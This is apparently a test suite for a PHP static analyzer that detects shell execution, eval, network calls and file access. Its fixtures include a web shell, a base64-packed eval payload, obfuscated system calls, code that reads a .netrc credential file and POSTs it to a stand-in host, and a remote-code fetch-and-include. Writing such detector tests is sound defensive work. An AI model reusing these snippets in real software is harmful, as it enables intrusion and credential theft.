import { describe, expect, it } from 'vitest';
import { labels, readAll } from './python-helper.ts';

const CALLS: readonly (readonly [name: string, source: string, ...expected: string[]])[] = [
  ['a web shell', "eval($_POST['x']);", 'eval eval'],
  [
    'a packed payload',
    `eval(gzinflate(base64_decode('${Buffer.from([0x2b, 0xae, 0x2c, 0x2e, 0x49, 0xcd, 0xd5, 0x50, 0xcf, 0x4c, 0x51, 0xd7, 0xb4, 0x06, 0x00]).toString('base64')}')));`,
    'decode base64',
    'decompress deflate',
    "php: system('id');",
    'shell: id',
  ],
  ['a function by a built name', '$f = "sys" . "tem"; $f("whoami");', 'shell: whoami'],
  ['call_user_func', 'call_user_func("shell_exec", "whoami");', 'shell: whoami'],
  ['backticks', '$o = `whoami`;', 'shell: whoami'],
  ['case', 'SYSTEM("whoami");', 'shell: whoami'],
  ['strrev', '$f = strrev("metsys"); $f("whoami");', 'shell: whoami'],
  ['includes', 'include "lib/a.php";', 'source include'],
  ['unserialize', 'unserialize($x);', 'deserialize unserialize'],
  ['stream wrappers', '$x = file_get_contents("https://a.example");', 'GET https://a.example'],
  [
    'curl',
    '$c = curl_init("https://a.example"); curl_setopt($c, CURLOPT_POSTFIELDS, "x"); curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false); curl_exec($c);',
    'POST https://a.example',
  ],
  ['environment', '$h = getenv("TOKEN"); $e = getenv(); $s = $_SERVER["HOME"];', 'env TOKEN', 'env *', 'env HOME'],
  ['files', 'file_put_contents("/tmp/x", "y"); unlink("/tmp/x"); copy("/a", "/b");', 'write /tmp/x', 'delete /tmp/x', 'read /a', 'write /b'],
];

describe('PHP', () => {
  it.each(CALLS)('%s', async (_name, source, ...expected) => {
    const seen = await readAll({ 'a.php': `<?php ${source}` });
    const all = [...labels(seen), ...seen.texts];
    for (const each of expected) expect(all).toContain(each);
  });
  it('follows data', async () => {
    const source =
      '<?php\nfunction ship($d) { $c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => "https://a.example", CURLOPT_POSTFIELDS => ["k" => base64_encode($d)]]); curl_exec($c); }\nship(file_get_contents("/home/u/.netrc"));';
    expect((await readAll({ 'a.php': source })).flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST https://a.example (body)']);
    expect(
      (await readAll({ 'a.php': '<?php file_put_contents("/tmp/b.php", file_get_contents("https://a.example")); include "/tmp/b.php";' })).flows(
        'request',
        'exec',
      ),
    ).toEqual(['GET https://a.example -> source include (code)']);
  });
  it('leaves pages and strings alone', async () => {
    expect(labels(await readAll({ 'a.php': '<p>eval($_POST)</p><?php $help = "system(id)"; // exec("x")\n$x = $list["exec"];' }))).toEqual([]);
  });
});
